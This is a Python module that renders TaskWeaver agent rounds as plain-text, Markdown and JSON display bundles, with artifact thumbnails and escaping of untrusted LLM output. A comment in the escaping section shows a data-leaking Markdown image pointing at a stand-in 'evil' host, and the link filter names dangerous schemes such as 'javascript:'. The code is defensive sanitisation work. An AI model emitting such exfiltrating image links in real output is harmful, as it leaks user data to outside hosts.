"""The Round as a MIME bundle (docs/architecture.md, contract 6): pure data, shared by notebook and replay.

`round_bundle(...)` gives `text/plain`, `text/markdown` and `application/vnd.twnb.round+json`. The JSON
keeps the Round's `to_dict()` keys at the top level (what TaskWeaver tools read) and puts twnb's own view
data in one `twnb` object. LLM text is untrusted: the Markdown escapes raw HTML, and every text drops
TaskWeaver's prompt delimiters so markers never show.

Saved notebooks stay small: an artifact image the Round's own code displayed is already in that
execution's captured outputs (and in the cell), so its preview points at that output instead of
carrying a second copy, and the Markdown links artifact files instead of embedding them.
"""

from __future__ import annotations

import base64
import hashlib
import io
import json
import mimetypes
import re
import urllib.parse
from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path
from typing import Any

from twnb.memory import PromptUtil
from twnb.session.autosave import AUTOSAVE_FAILED

MIME_TYPE = "application/vnd.twnb.round+json"
SCHEMA_VERSION = 1
PREVIEW_CAP_BYTES = 256 * 1024
THUMBNAIL_SIDE = 320  # pixels: enough to recognise a plot in a list of Rounds
# Attachment types shown as code, as text or not at all (here and in the widget).
_CODE_TYPES = {"reply_content"}
HIDDEN_TYPES = frozenset({"shared_memory_entry", "reply_type", "invalid_response"})
_RESULT_TYPES = {"execution_result", "code_error", "revise_message"}  # verification: one line
_IMAGE_SUFFIXES = {".png", ".jpg", ".jpeg", ".gif", ".webp", ".svg"}
NO_ERROR = "No error is found."
_TEXT_LIMIT = 4000  # characters of one result shown in text/markdown; the JSON keeps everything


def round_bundle(
    round: Any,
    *,
    session_id: str,
    plan: Any = None,
    previews: Sequence[Mapping[str, Any]] | None = None,
    base_dir: str | Path | None = None,
) -> dict[str, Any]:
    """The three static views of `round` (a twnb.memory.Round), keyed by MIME type.

    `base_dir` is the notebook's folder: artifact paths inside it are written relative to it."""
    payload = round_payload(round, session_id=session_id, plan=plan, previews=previews, base_dir=base_dir)
    return {
        "text/plain": round_text(payload),
        "text/markdown": round_markdown(payload),
        MIME_TYPE: payload,
    }


def round_payload(
    round: Any,
    *,
    session_id: str,
    plan: Any = None,
    previews: Sequence[Mapping[str, Any]] | None = None,
    base_dir: str | Path | None = None,
) -> dict[str, Any]:
    """`application/vnd.twnb.round+json`: `round.to_dict()` plus the `twnb` object.

    The session keeps artifact paths absolute in memory (and makes them relative when it saves); here
    they are made relative to `base_dir` when inside it, as contract 2 does for saved YAML, so a
    saved notebook carries no machine paths and its links work from the notebook's folder.
    """
    data = _plain(round.to_dict())
    for post in data.get("post_list") or []:
        for attachment in post.get("attachment_list") or []:
            if attachment.get("type") == "artifact_paths":
                content = attachment.get("content")
                paths = [content] if isinstance(content, str) else list(content or [])
                attachment["content"] = [display_path(str(p), base_dir) for p in paths]
    data.setdefault("extra", {})
    extra = data.get("extra") or {}
    data["twnb"] = {
        "schema_version": SCHEMA_VERSION,
        "session_id": session_id,
        "plan": plan_to_dict(plan),
        "timing": _plain(extra.get("timing") or {}),
        "usage": _plain(extra.get("usage") or {}),
        "ledger": _plain(extra.get("ledger") or {}),
        "previews": [dict(p) for p in previews or []],
    }
    return data


def plan_from_round(round: Any) -> Any:
    """The plan as the Round's Planner posts left it (for Rounds shown again, e.g. after a load)."""
    from twnb.memory import derive_plan

    plan = None
    for post in round.post_list:
        if post.send_from == "Planner":
            plan = derive_plan(plan, post, user_query=round.user_query)
    return plan if plan is not None and plan.subtasks else None


def plan_to_dict(plan: Any) -> dict[str, Any] | None:
    """A `twnb.memory.Plan` as plain data: `{"subtasks": [{"name", "state", ...}, ...], ...}`."""
    return None if plan is None else _plain(plan.to_dict())


# ---------------------------------------------------------------------------------------------------
# Previews: small images of the artifact files a Round made, so a saved notebook shows them.


def artifact_previews(
    round: Any, base_dir: str | Path | None = None, *, cap_bytes: int = PREVIEW_CAP_BYTES
) -> list[dict[str, Any]]:
    """A preview per image artifact of `round`, each at most `cap_bytes` of image data.

    Each preview holds a thumbnail (`"data"`, base64; at most THUMBNAIL_SIDE pixels a side when Pillow
    is installed, else the image itself when it fits the cap); `"omitted"` says why when neither fits.
    An image the Round's code displayed also names where the full image is in that execution's
    captured outputs (`"output": {"post_id", "attachment_id", "index"}`).
    """
    previews: list[dict[str, Any]] = []
    seen: set[str] = set()
    shown = displayed_images(round)
    for path_text in _artifact_paths(round):
        if path_text in seen:
            continue
        seen.add(path_text)
        path = Path(path_text)
        if not path.is_absolute() and base_dir is not None:
            path = Path(base_dir) / path
        if path.suffix.lower() not in _IMAGE_SUFFIXES:
            continue
        previews.append(_preview(path, display_path(path, base_dir), cap_bytes, shown))
    return previews


def displayed_images(round_or_posts: Any) -> dict[str, dict[str, Any]]:
    """The images the code displayed, from the `execution_result` attachments' captured outputs:
    sha256 of the image bytes -> where the output is (`post_id`, `attachment_id`, `index`)."""
    posts = getattr(round_or_posts, "post_list", round_or_posts)
    found: dict[str, dict[str, Any]] = {}
    for post in posts:
        for attachment in post.attachment_list:
            if attachment.type.value != "execution_result":
                continue
            for index, output in enumerate((attachment.extra or {}).get("outputs") or []):
                data = output.get("data") if isinstance(output, Mapping) else None
                for mime in _BASE64_IMAGES:
                    raw = _decoded(data.get(mime)) if isinstance(data, Mapping) else None
                    if raw is not None:
                        where = {"post_id": post.id, "attachment_id": attachment.id, "index": index}
                        found.setdefault(hashlib.sha256(raw).hexdigest(), where)
    return found


_BASE64_IMAGES = ("image/png", "image/jpeg", "image/gif")


def _decoded(payload: Any) -> bytes | None:
    if isinstance(payload, list):  # nbformat allows multi-line strings as lists
        payload = "".join(payload)
    if not isinstance(payload, str):
        return None
    try:
        return base64.b64decode(payload)
    except ValueError:
        return None


def display_path(path: str | Path, base_dir: str | Path | None) -> str:
    """`path` relative to `base_dir` (the notebook's folder) when inside it, so links work from the
    notebook and saved output does not carry the machine's absolute paths."""
    path = Path(path)
    if base_dir is not None and path.is_absolute():
        try:
            return path.resolve().relative_to(Path(base_dir).resolve()).as_posix()
        except ValueError:
            pass
    return str(path)


def _artifact_paths(round: Any) -> Iterable[str]:
    for post in round.post_list:
        for attachment in post.attachment_list:
            if attachment.type.value == "artifact_paths":
                yield from (str(path) for path in attachment.content)


def _preview(
    path: Path, name: str, cap_bytes: int, shown: Mapping[str, dict[str, Any]]
) -> dict[str, Any]:
    mime = mimetypes.guess_type(path.name)[0] or "application/octet-stream"
    try:
        raw = path.read_bytes()
    except OSError as error:
        return {"path": name, "mime": mime, "omitted": f"cannot read the file: {error.strerror or error}"}
    preview: dict[str, Any] = {"path": name, "mime": mime}
    output = shown.get(hashlib.sha256(raw).hexdigest())
    if output is not None:
        preview["output"] = dict(output)  # the full image, in the Round's captured outputs
    # A thumbnail, not the image again: the full image is on disk and, when displayed, in the Round.
    thumb = _thumbnail(raw, cap_bytes, THUMBNAIL_SIDE)
    if thumb is not None and len(thumb) < len(raw):
        raw, preview["mime"] = thumb, "image/png"
    elif len(raw) > cap_bytes:
        preview["size"] = len(raw)
        preview["omitted"] = f"larger than {cap_bytes // 1024} KB and no smaller thumbnail could be made"
        return preview
    preview["size"] = len(raw)
    preview["data"] = base64.b64encode(raw).decode("ascii")
    return preview


def _thumbnail(raw: bytes, cap_bytes: int, side: int) -> bytes | None:
    """A PNG at most `side` pixels on its longer side and `cap_bytes` long (smaller sides if needed);
    None without Pillow (optional; matplotlib brings it) or for what Pillow cannot read (SVG)."""
    try:
        from PIL import Image
    except ImportError:
        return None
    try:
        image = Image.open(io.BytesIO(raw))
        image.load()
    except Exception:  # not an image Pillow reads (SVG, a broken file): no thumbnail
        return None
    while side >= 32:
        copy = image.copy()
        copy.thumbnail((side, side))
        out = io.BytesIO()
        copy.save(out, format="PNG", optimize=True)
        if out.tell() <= cap_bytes:
            return out.getvalue()
        side //= 2
    return None


# ---------------------------------------------------------------------------------------------------
# text/markdown and text/plain


# Characters that build Markdown structure, written as character references: CommonMark never reads a
# reference as structure, so `![x](https://evil/?q=...)` (an image that would load, and leak, on
# render) and `[click](javascript:...)` stay text. Backslash escapes would not do: a backslash in the
# text could cancel them.
_INLINE_ESCAPES = {"&": "&amp;", "<": "&lt;", ">": "&gt;", "[": "&#91;", "]": "&#93;", "\\": "&#92;"}
_CODE_ESCAPES = {**_INLINE_ESCAPES, "*": "&#42;", "_": "&#95;", "`": "&#96;"}
_CODE_SPAN_PATTERN = r"(?<!`)(?P<ticks>`+)(?!`)(?P<code>.+?)(?<!`)(?P=ticks)(?!`)"
_CODE_SPAN = re.compile(_CODE_SPAN_PATTERN)
# `[label](target)`, not after `!` (an image loads on render) nor `]` (a reference link); the label
# may hold code spans but no brackets, the target no spaces or parentheses (so no title, no nesting).
# Tried before a code span at each position, as a renderer would see the link first there.
_LINK_OR_CODE_SPAN = re.compile(
    r"(?<![!\]])\[(?P<label>(?:[^\[\]`\n]|`[^`\n]+`)+)\]\((?P<target>[^\s()<>]+)\)|" + _CODE_SPAN_PATTERN
)
_FENCE_OPEN = re.compile(r"^ {0,3}(`{3,}|~{3,})\s*([\w+-]*)")


def escape_markdown(text: str, *, links: bool = False) -> str:
    """Untrusted text as Markdown that renders as the same text: no raw HTML, links or images
    (with `links`, safe links stay links: see `escape_markdown_inline`).

    Fenced code blocks are re-fenced (their content is literal); inline code spans become `<code>`
    with escaped content. If this reading of the text differs from a renderer's, the result is only
    less pretty, never live: everything outside the fences we write ourselves is escaped.
    """
    lines = text.split("\n")
    out: list[str] = []
    index = 0
    while index < len(lines):
        opened = _FENCE_OPEN.match(lines[index])
        if opened is None:
            out.append(escape_markdown_inline(lines[index], links=links))
            index += 1
            continue
        marker = opened.group(1)
        closing = re.compile(rf"^ {{0,3}}{re.escape(marker[0])}{{{len(marker)},}}\s*$")
        end = next((i for i in range(index + 1, len(lines)) if closing.match(lines[i])), len(lines))
        out += _fence("\n".join(lines[index + 1 : end]), opened.group(2))
        index = end + 1
    return "\n".join(out)


def escape_markdown_inline(line: str, *, links: bool = False) -> str:
    """One line of untrusted text as inline Markdown (no fences: for table cells, list items).

    With `links`, a Markdown link whose target is safe (see `safe_link_target`) stays a link, as
    TaskWeaver's Planner is told to give files: `[unusual_weeks.csv](unusual_weeks.csv)`. Images,
    reference links and autolinks stay text either way.
    """
    token = _LINK_OR_CODE_SPAN if links else _CODE_SPAN
    parts, position = [], 0
    for match in token.finditer(line):
        parts.append(_escape_chars(line[position : match.start()], _INLINE_ESCAPES))
        if match.group("code") is not None:
            parts.append(_code_span(match.group("code")))
        else:
            parts.append(_link(match.group(0), match.group("label"), match.group("target")))
        position = match.end()
    parts.append(_escape_chars(line[position:], _INLINE_ESCAPES))
    return "".join(parts)


def _code_span(code: str) -> str:
    return "<code>" + _escape_chars(code, _CODE_ESCAPES) + "</code>"


def _link(whole: str, label: str, target: str) -> str:
    url = safe_link_target(target)
    if url is None:  # an unsafe target: the whole link stays text
        return escape_markdown_inline(whole)
    # The label is text (code spans allowed); a backtick left over could open a span across the link.
    text = "".join(
        _code_span(piece[1:-1]) if piece.startswith("`") and piece.endswith("`") and len(piece) > 1
        else _escape_chars(piece, {**_INLINE_ESCAPES, "`": "&#96;"})
        for piece in re.split(r"(`[^`]+`)", label)
    )  # fmt: skip
    return f"[{text}]({url})"


_RELATIVE_SAFE = "/#?=%-._~+,;@!$*'"  # `&` and `:` are percent-encoded: no entity, no scheme
_URL_SAFE = _RELATIVE_SAFE + "&:[]"
_SCHEME = re.compile(r"^[A-Za-z][A-Za-z0-9+.-]*:")
_WEB_URL = re.compile(r"^https?://[^/?#\s]+", re.IGNORECASE)


def safe_link_target(target: str) -> str | None:
    """A link target from untrusted text, made safe to write into Markdown, or None to refuse it.

    Allowed: http(s) URLs, and relative paths (no scheme, not starting with `/`, `\\` or `//`; `..` is
    fine: a link, not a file read). Refused: every other scheme (`javascript:`, `data:`, `vbscript:`,
    `file:` ...). The result is percent-encoded so the renderer cannot read it differently: in a
    relative path `&` and `:` are encoded (some renderers decode character references in link
    targets, twice even, which could spell `javascript&#58;`); an http(s) URL keeps its `&` query
    separators, and decoding after its literal `https://` prefix cannot change the scheme.
    """
    if not target or any(char.isspace() or char in "()<>\\`\"" for char in target):
        return None
    if _WEB_URL.match(target):
        return urllib.parse.quote(target, safe=_URL_SAFE)
    if _SCHEME.match(target) or target.startswith(("/", "\\")):
        return None
    return urllib.parse.quote(target, safe=_RELATIVE_SAFE)


def _escape_chars(text: str, table: Mapping[str, str]) -> str:
    return "".join(table.get(char, char) for char in text)


def clean_text(text: Any) -> str:
    """Text as users see it: TaskWeaver's prompt delimiters removed."""
    return PromptUtil.remove_all_delimiters(text if isinstance(text, str) else _as_text(text))


_CONTROL = re.compile(
    r"\x1b\[[0-?]*[ -/]*[@-~]"  # CSI: colours, cursor moves, screen clears
    r"|\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)?"  # OSC: titles, hyperlinks, clipboard writes
    r"|[\x00-\x08\x0b-\x1f\x7f-\x9f]"
)


def plain_text(text: Any) -> str:
    """Text for terminals: delimiters removed, and no control characters (an ANSI escape from the LLM
    or a traceback could recolour, rewrite or retitle the user's terminal)."""
    return _CONTROL.sub("", clean_text(text).replace("\r\n", "\n"))


def artifact_url(name: str) -> str | None:
    """A link target for an artifact shown as `name` (from `display_path`): relative paths only (the
    notebook's folder), percent-encoded so a hostile file name cannot end the link or pick a scheme."""
    if not name or Path(name).is_absolute() or name.startswith(("~", "\\")):
        return None
    return urllib.parse.quote(name, safe="/")


def round_markdown(payload: Mapping[str, Any]) -> str:
    twnb = payload.get("twnb") or {}
    inline = escape_markdown_inline
    lines = [f"**twnb Round** `{payload.get('id', '')}` · {_payload_state(payload)}", ""]
    request = clean_text(payload.get("user_query", "")).splitlines()
    lines += ["> " + inline(line) for line in request]
    lines.append("")
    plan = twnb.get("plan")
    if plan and plan.get("subtasks"):
        lines.append("**Plan**")
        lines.append("")
        for step in plan["subtasks"]:
            mark = "x" if step.get("state") == "done" else " "
            state = step.get("state", "")
            lines.append(
                f"- [{mark}] {inline(clean_text(step.get('name', '')))} *({inline(state)})*"
            )
        lines.append("")
    for post in payload.get("post_list") or []:
        lines.append(f"**{inline(post_title(post))}**")
        lines.append("")
        cut_off = incomplete_reason(post)
        if cut_off is not None:
            lines += [f"*{inline(cut_off)}*", ""]
        message = clean_text(post.get("message") or "")
        if message.strip():
            lines.append(escape_markdown(message, links=True))
            lines.append("")
        for attachment in post.get("attachment_list") or []:
            lines += _attachment_markdown(attachment)
    failure = (payload.get("extra") or {}).get("failure_reason")
    if failure:
        lines += [f"**Round failed:** {inline(clean_text(failure))}", ""]
    unsaved = autosave_note(payload)
    if unsaved:
        lines += [f"**Not autosaved:** {inline(clean_text(unsaved))}", ""]
    for preview in twnb.get("previews") or []:
        # A link, not the image bytes: they are in the previews and, for displayed figures, in the cell.
        path = str(preview.get("path", ""))
        url = artifact_url(path)
        if preview.get("omitted"):
            lines += [f"*artifact {inline(path)}: {inline(str(preview['omitted']))}*", ""]
        elif url is not None:
            lines += [f"![{inline(path)}]({url})", ""]
    summary = summary_line(payload)
    if summary:
        lines.append(f"*{summary}*")
    return "\n".join(lines).rstrip() + "\n"


def _attachment_markdown(attachment: Mapping[str, Any]) -> list[str]:
    kind = str(attachment.get("type"))
    content = attachment.get("content")
    if not _shown(kind, content):
        return []
    if kind == "artifact_paths":
        paths = [content] if isinstance(content, str) else [str(p) for p in content or []]
        return [f"*artifacts:* {', '.join(_artifact_link(p) for p in paths)}", ""]
    text = clean_text(content)
    if kind in _CODE_TYPES:
        return [*_fence(text, "python"), ""]
    label = kind.replace("_", " ")
    if kind in _RESULT_TYPES or "\n" in text.strip():
        return [f"*{label}:*", "", *_fence(clip_middle(text, _TEXT_LIMIT), "text"), ""]
    return [f"*{label}:* {escape_markdown(text)}", ""]


def _artifact_link(path: str) -> str:
    url = artifact_url(path)
    label = escape_markdown_inline("`" + path + "`")
    return f"[{label}]({url})" if url is not None else label


def _fence(text: str, language: str) -> list[str]:
    # A fence longer than any backtick run inside, so code cannot close it early.
    longest = max((len(run) for run in text.split("\n") for run in _backtick_runs(run)), default=0)
    fence = "`" * max(3, longest + 1)
    return [f"{fence}{language}", text, fence]


def _backtick_runs(line: str) -> list[str]:
    runs, current = [], ""
    for char in line:
        if char == "`":
            current += char
        elif current:
            runs.append(current)
            current = ""
    return [*runs, current] if current else runs


def clip_middle(text: str, limit: int) -> str:
    """A long result cut in the middle: its start and its end (where errors and answers are) stay."""
    if len(text) <= limit:
        return text
    return text[: limit // 2] + "\n... (clipped) ...\n" + text[-limit // 2 :]


def shorten(text: str, limit: int) -> str:
    """At most `limit` characters, an ellipsis marking a cut (one-line previews: headers, tables)."""
    return text if len(text) <= limit else text[: limit - 1] + "…"


def round_text(payload: Mapping[str, Any]) -> str:
    """Readable plain text for terminal IPython and anything that shows no Markdown."""
    twnb = payload.get("twnb") or {}
    lines = [f"twnb Round {payload.get('id', '')} [{_payload_state(payload)}]"]
    lines.append(f"request: {plain_text(payload.get('user_query', ''))}")
    plan = twnb.get("plan")
    if plan and plan.get("subtasks"):
        lines.append("plan:")
        for step in plan["subtasks"]:
            lines.append(f"  [{plain_text(step.get('state', ''))}] {plain_text(step.get('name', ''))}")
    for post in payload.get("post_list") or []:
        lines.append(f"--- {plain_text(post_title(post, arrow='->'))}")
        cut_off = incomplete_reason(post)
        if cut_off is not None:
            lines.append(plain_text(cut_off))
        message = plain_text(post.get("message") or "").strip()
        if message:
            lines.append(message)
        for attachment in post.get("attachment_list") or []:
            kind = str(attachment.get("type"))
            content = attachment.get("content")
            if not _shown(kind, content):
                continue
            text = plain_text(content)
            if kind in _CODE_TYPES or kind in _RESULT_TYPES or "\n" in text.strip():
                lines.append(f"[{kind}]")
                lines += ["  " + line for line in clip_middle(text, _TEXT_LIMIT).splitlines()]
            else:
                lines.append(f"[{kind}] {text}")
    failure = (payload.get("extra") or {}).get("failure_reason")
    if failure:
        lines.append(f"Round failed: {plain_text(failure)}")
    unsaved = autosave_note(payload)
    if unsaved:
        lines.append(f"Not autosaved: {plain_text(unsaved)}")
    summary = summary_line(payload)
    if summary:
        lines.append(summary)
    return "\n".join(lines)


def autosave_note(payload: Mapping[str, Any]) -> str:
    """The note a Round keeps when its autosave failed (see twnb.session.autosave), else ''."""
    return str((payload.get("extra") or {}).get(AUTOSAVE_FAILED) or "")


def incomplete_reason(post: Mapping[str, Any]) -> str | None:
    """`reply cut off: <why>` for a post the session kept after a failure mid-reply, else None."""
    reason = (post.get("extra") or {}).get("incomplete")
    if not reason:
        return None
    return f"reply cut off: {clean_text(reason)}"


def post_title(post: Mapping[str, Any], *, arrow: str = "→") -> str:
    """`Planner → User`; a reply cut off before it named its recipient has none to show."""
    send_from, send_to = str(post.get("send_from") or "?"), str(post.get("send_to") or "?")
    if (post.get("extra") or {}).get("incomplete"):
        head = send_from if send_to == "Unknown" else f"{send_from} {arrow} {send_to}"
        return f"{head} (reply cut off)"
    return f"{send_from} {arrow} {send_to}"


def summary_line(payload: Mapping[str, Any]) -> str:
    """`time 3.2 s · tokens 1,200 in / 340 out` from the Round's timing and usage (empty if neither)."""
    twnb = payload.get("twnb") or {}
    parts = []
    duration = (twnb.get("timing") or {}).get("duration_s")
    if isinstance(duration, (int, float)):
        parts.append(f"time {duration:.1f} s")
    usage = twnb.get("usage") or {}
    if usage.get("prompt_tokens") is not None or usage.get("completion_tokens") is not None:
        tokens_in, tokens_out = int(usage.get("prompt_tokens") or 0), int(usage.get("completion_tokens") or 0)
        parts.append(f"tokens {tokens_in:,} in / {tokens_out:,} out")
    if usage.get("calls"):
        parts.append(f"{usage['calls']} LLM calls")
    return " · ".join(parts)


def state_label(state: str, failure_reason: Any = None) -> str:
    """The state users see: a Round failed by Ctrl-C (its failure reason says so) is `interrupted`."""
    if state == "failed" and "interrupt" in str(failure_reason or "").lower():
        return "interrupted"
    return state


def _payload_state(payload: Mapping[str, Any]) -> str:
    return state_label(str(payload.get("state", "")), (payload.get("extra") or {}).get("failure_reason"))


def is_no_error(kind: str, content: Any) -> bool:
    """TaskWeaver writes a code_error attachment saying there is none; showing it (in red) misleads."""
    return kind == "code_error" and str(content).strip() == NO_ERROR


def _shown(kind: str, content: Any) -> bool:
    return kind not in HIDDEN_TYPES and content not in (None, "", []) and not is_no_error(kind, content)


def _as_text(value: Any) -> str:
    if isinstance(value, (list, tuple)):
        return "\n".join(str(v) for v in value)
    return "" if value is None else str(value)


def _plain(value: Any) -> Any:
    """JSON-safe plain data (a display bundle goes over the wire as JSON)."""
    return json.loads(json.dumps(value, default=_json_default))


def _json_default(value: Any) -> Any:
    if hasattr(value, "to_dict"):
        return value.to_dict()
    if hasattr(value, "value"):
        return value.value
    return str(value)
